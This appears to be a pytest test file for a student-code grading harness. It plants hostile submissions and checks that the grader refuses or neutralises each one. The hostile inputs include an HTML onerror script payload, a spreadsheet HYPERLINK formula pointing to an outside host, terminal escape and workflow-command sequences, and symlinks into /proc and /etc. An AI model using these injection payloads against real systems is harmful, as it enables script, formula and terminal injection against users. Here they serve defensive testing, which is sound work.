"""Hostile names, links and text, graded in one real grading beside an honest control.

Folders git cannot hold are built here: links into ``/proc`` (``kmsg`` blocks a reader,
``self/pagemap`` never ends), a link loop, a huge file linked a thousand times, an id whose
escaped file names bust the 255-byte limit, a folder named like a reference, a linked
``index.py`` and a linked folder, a FIFO as ``index.py``, a name that is not UTF-8, and names
made of markup, a spreadsheet formula and terminal control sequences. The grading must end,
every student must have their own record, page and Gradescope result, the honest code must
score the same under every name and beside every link, and no sink may obey student text:
the Markdown rendered in Chromium runs no script and shows no link of theirs, grades.csv
holds no formula, Gradescope's results are strict JSON declared plain text, and nothing
printed holds a control character.
"""

import csv
import json
import os
import shutil
import subprocess
import sys

import pytest
from data_fixtures import write_fashion_slice
from project_paths import HOSTILE, ROOT, SUBMISSIONS

from harness.names import file_name

pytestmark = [pytest.mark.torch, pytest.mark.sandbox, pytest.mark.realdata]

LONG_ID = "0" + "\N{GRINNING FACE}" * 22  # 89 bytes; escaped, 265: past the 255-byte limit
HTML_ID = "<img src=x onerror=window.__pwned=1>"
FORMULA_ID = '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"x.example"&A3,"open feedback")'
TERMINAL_ID = "::error title=Grading::void \x1b]0;owned\x07\x1b[2J\u202edessap"
NOT_UTF8 = b"bad\xff"
HONEST_COPIES = ("links", LONG_ID, "huge_header_export")  # the same network and seed


def _links_folder(folder, scratch):
    """honest_tiny beside links the trusted side must never follow."""
    shutil.copytree(HOSTILE / "honest_tiny", folder)
    (folder / "kmsg").symlink_to("/proc/kmsg")
    (folder / "pagemap").symlink_to("/proc/self/pagemap")
    (folder / "loop").symlink_to("loop")
    (folder / "a").symlink_to("b")
    (folder / "b").symlink_to("a")
    (folder / "root").symlink_to("/")
    huge = scratch / "huge.bin"
    with open(huge, "wb") as handle:  # sparse: 1 GiB that costs no disk
        handle.truncate(1 << 30)
    for i in range(990):
        (folder / f"huge_{i:03d}").symlink_to(huge)


def _plant(subs, scratch):
    for name in ("honest_tiny", "nan_device", "deep_ready", "huge_header_export"):
        shutil.copytree(HOSTILE / name, subs / name)
    _links_folder(subs / "links", scratch)
    shutil.copytree(HOSTILE / "honest_tiny", subs / LONG_ID)
    shutil.copytree(HOSTILE / "inject_markdown", subs / HTML_ID)
    shutil.copytree(HOSTILE / "honest_tiny", subs / "reference:original")
    (subs / "link_index").mkdir()
    (subs / "link_index" / "index.py").symlink_to(SUBMISSIONS / "torch_example" / "index.py")
    (subs / FORMULA_ID).mkdir()
    (subs / FORMULA_ID / "index.py").symlink_to("/etc/hostname")
    (subs / TERMINAL_ID).mkdir()
    os.mkfifo(subs / TERMINAL_ID / "index.py")
    os.mkdir(os.fsencode(subs) + b"/" + NOT_UTF8)
    shutil.copy(HOSTILE / "honest_tiny" / "index.py", os.fsencode(subs) + b"/bad\xff/index.py")
    (subs / "mallory").symlink_to(subs / "honest_tiny")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("names")
    _plant(root / "subs", root)
    write_fashion_slice(root / "data", train=2000, test=300)
    out = root / "out"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "harness",
            "grade",
            str(root / "subs"),
            "--datasets",
            "fashion_mnist",
            "--data-dir",
            str(root / "data"),
            "--allow-unverified",
            "--max-batches",
            "5",
            "--time-limit",
            "120",
            "--out",
            str(out),
        ],
        cwd=ROOT,
        capture_output=True,
        timeout=900,
    )
    results = out / "results.json"
    assert results.exists(), done.stdout[-3000:] + done.stderr[-3000:]
    records = {r["submission"]: r for r in _strict_json(results.read_text())}
    return done, records, out


def _strict_json(text):
    def refuse(constant):
        raise ValueError(f"not strict JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_the_grading_ends_with_a_record_for_every_folder(graded):
    done, records, _ = graded
    assert done.returncode == 1, done.stderr[-2000:]
    students = {name for name, r in records.items() if r["reference"] is None}
    expected = {"honest_tiny", "nan_device", "deep_ready", "huge_header_export", "links"}
    expected |= {LONG_ID, HTML_ID, "reserved/reference:original", "link_index", FORMULA_ID}
    expected |= {TERMINAL_ID, "bad\\xff", "mallory"}
    assert students == expected


def test_the_honest_network_scores_the_same_under_any_name_and_beside_any_link(graded):
    _, records, _ = graded
    honest = records["honest_tiny"]
    assert honest["status"] == "passed", honest["reason"]
    for name in HONEST_COPIES:
        assert records[name]["status"] == "passed", (name, records[name]["reason"])
        assert records[name]["test_accuracy"] == honest["test_accuracy"], name


@pytest.mark.parametrize(
    "name, reason",
    [
        ("reserved/reference:original", "submission id 'reference:original' is reserved"),
        ("link_index", "index.py is a symbolic link (to "),
        (FORMULA_ID, "index.py is a symbolic link (to '/etc/hostname')"),
        (TERMINAL_ID, "index.py is not a regular file"),
        ("bad\\xff", "is not valid UTF-8; rename the folder"),
        ("mallory", "the submission folder is a symbolic link"),
        ("nan_device", "report.device.tflops: expected a finite number, received inf"),
        ("deep_ready", "nests lists or objects deeper than 32"),
        (HTML_ID, "Staff: click here to re-grade"),
    ],
)
def test_each_refusal_is_its_own_students_record(graded, name, reason):
    _, records, _ = graded
    assert records[name]["status"] == "failed" and reason in records[name]["reason"], records[name][
        "reason"
    ]


def test_a_protocol_attack_ends_the_run_at_once(graded):
    _, records, _ = graded
    assert records["deep_ready"]["wall_seconds"] < 60


def test_a_bad_export_costs_only_the_pictures(graded):
    _, records, out = graded
    note = "no explore page for this run: probabilities.npy: expected shape (300, 10)"
    assert note in records["huge_header_export"]["output"]


def test_every_student_has_pages_and_a_gradescope_result_of_plain_strict_json(graded):
    _, records, out = graded
    for name, record in records.items():
        if record["reference"] is not None:
            continue
        stem = file_name(name)
        assert len(stem.encode()) <= 96
        assert (out / "students" / f"{stem}.md").is_file(), name
        assert (out / "students" / f"{stem}.html").is_file(), name
        result = _strict_json((out / "gradescope" / stem / "results.json").read_text())
        assert result["output_format"] == result["test_output_format"] == "text"
        assert result["test_name_format"] == "text"


def test_the_gradebook_holds_no_formula(graded):
    _, _, out = graded
    with open(out / "grades.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values() if not _number(cell)]
    assert not [c for c in cells if c.lstrip(" \n").startswith(tuple("=+-@\t\r"))]
    assert "'" + FORMULA_ID in [row["student"] for row in rows]


def test_nothing_printed_holds_a_control_character_or_a_workflow_command(graded):
    done, _, _ = graded
    for stream in (done.stdout, done.stderr):
        text = stream.decode("utf-8", "replace")
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
        assert not [line for line in text.splitlines() if line.startswith("::")]
    assert "\\x3a:error title=Grading" in done.stdout.decode()


def test_captured_output_stays_inside_its_fence(graded):
    _, _, out = graded
    page = (out / "students" / f"{file_name(HTML_ID)}.md").read_text()
    assert "\n# Grade override" in page  # inside the fence, as text
    assert "\n````text\n" in page  # it printed a fence of three backticks: this one is four


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.needs("chromium")
@pytest.mark.parametrize("page", ["summary.md", f"students/{file_name(HTML_ID)}.md"])
def test_the_markdown_rendered_in_chromium_runs_no_script_and_shows_no_link(graded, tmp_path, page):
    from chromium_cdp import Browser
    from markdown_it import MarkdownIt

    _, _, out = graded
    text = (out / page).read_text()
    rendered = MarkdownIt("commonmark").enable("table").render(text)  # raw HTML allowed
    html = tmp_path / "rendered.html"
    html.write_text(f"<!DOCTYPE html><html><body>{rendered}</body></html>")
    with Browser(tmp_path / "profile") as browser:
        browser.open(html, "Array.from(document.images).every(i => i.complete)")
        browser.evaluate("new Promise(r => setTimeout(r, 300))")  # error handlers run
        pwned = browser.evaluate("window.__pwned === undefined ? null : window.__pwned")
        hrefs = browser.evaluate("Array.from(document.links).map(a => a.getAttribute('href'))")
        headings = browser.evaluate("Array.from(document.querySelectorAll('h1')).length")
        shown = browser.evaluate("document.body.innerText")
    assert pwned is None
    assert all(":" not in href for href in hrefs), hrefs  # only the reports' own pages
    assert headings == 1
    assert "Staff: click here to re-grade" in shown and HTML_ID in shown
